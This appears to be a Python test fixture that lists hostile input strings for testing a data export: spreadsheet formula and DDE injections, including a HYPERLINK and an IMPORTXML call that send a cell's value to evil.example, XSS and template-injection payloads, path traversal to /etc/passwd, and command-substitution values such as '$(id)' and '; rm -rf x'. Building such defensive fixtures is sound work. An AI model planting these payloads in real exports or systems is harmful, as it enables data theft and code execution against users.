"""Texts that somebody may put into a question, an answer or a name so that an export does what it should not."""

from __future__ import annotations

from hostile import PAYLOADS

FORMULAS = (
    *("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2"),
    *('=HYPERLINK("http://evil.example/?"&A1,"open")', "＝1+1", "＋1", "－1", "＠SUM(A1)", "'=1+1", "''=1+1", "'plain"),
    *('";=1+1', "a,b;c\td", 'say "no"', '=IMPORTXML("http://evil.example","//a")', "%0A=1+1", "=DDE()", "+1", "-"),
)
"""What a spreadsheet may run, and what only looks like a guard."""
MARKUP = (
    *(
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg onload=alert(1)>",
        "<!-- x",
        "]]>",
        "</code>",
    ),
    *(
        "[a](http://evil.example)",
        "![a](http://evil.example/x.png)",
        "[a]: http://evil.example",
        "<http://evil.example>",
    ),
    *(
        "https://evil.example/x",
        "www.evil.example",
        "a@evil.example",
        "[x](javascript:alert(1))",
        "**bold** _it_ ~~s~~",
    ),
    *(
        "`code`",
        "``` ```",
        "`` ` [a](http://evil.example) ``",
        "| a | b |",
        "# head",
        "- item",
        "> quote",
        "---",
        "***",
    ),
    *("\\[a](http://evil.example)", "&lt;b&gt;", "{{ 7*7 }}", "${7*7}", "<%= 7 %>", "%s%n", "$x$", "\\(x\\)"),
)
"""HTML, Markdown and templates."""
STRUCTURE = (
    *(
        '"',
        "'",
        "\\",
        "\n",
        "\r\n",
        "\r",
        "\t",
        "a\nb\n\nc",
        "\x00",
        "\x1b[2J",
        "\x07",
        "\u2028\u2029",
        "\u202egnp.exe",
    ),
    *(
        "\ufeffbom",
        "\u200b",
        "é́́́",
        "𝒜😀👩‍👩‍👧",
        "نص",
        "--- \nlicense: mit\n---",
        "key: value",
        "- a: b",
        "!!python/object:os",
    ),
    *(
        '{"a": 1}',
        "[1, 2]",
        "null",
        "true",
        "007",
        "1e999",
        "NaN",
        "1,5",
        "attachment://abc",
        "  spaced  ",
        "x" * 20_000,
    ),
)
"""What ends a string, a line or a document, and what is taken for a value of another kind."""
NAMES = (
    *(
        "../../etc/passwd",
        "/etc/passwd",
        "..\\..\\x",
        "C:\\x",
        "a/b",
        ".",
        "..",
        "CON",
        "x" * 300,
        "a\x00b",
        "%2e%2e%2f",
    ),
    *("~/x", "$HOME", "`id`", "$(id)", "; rm -rf x", "-rf", "--force", "file:///etc/passwd", "//evil.example/share"),
)
"""What leads out of a folder where a name becomes a path or a command."""
ALL = (*FORMULAS, *MARKUP, *STRUCTURE, *NAMES, *PAYLOADS)
